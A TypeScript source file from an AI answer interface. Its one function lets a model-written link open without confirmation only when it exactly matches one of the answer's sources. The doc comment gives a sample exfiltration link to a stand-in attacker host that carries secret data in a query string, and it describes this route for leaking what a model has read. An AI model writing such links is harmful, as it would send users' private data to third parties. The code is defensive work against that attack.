import { pageKey } from '../conversation/host';

/**
 * Whether a link the model wrote into its answer opens on a click without asking: only when it is
 * one of the answer's sources (a search result or a page it opened), exactly, with no fragment. Any
 * other address may carry what the model read (`[the report](https://attacker.example/?d=<secret>)`
 * under innocent words) and is shown in full before it is opened. Citation chips are built by
 * Sidelight from a source's address and never come here.
 */
export function answerLinkIsSource(href: string, sourceKeys: ReadonlyMap<string, unknown>): boolean {
  return pageKey(href) === href && sourceKeys.has(href);
}
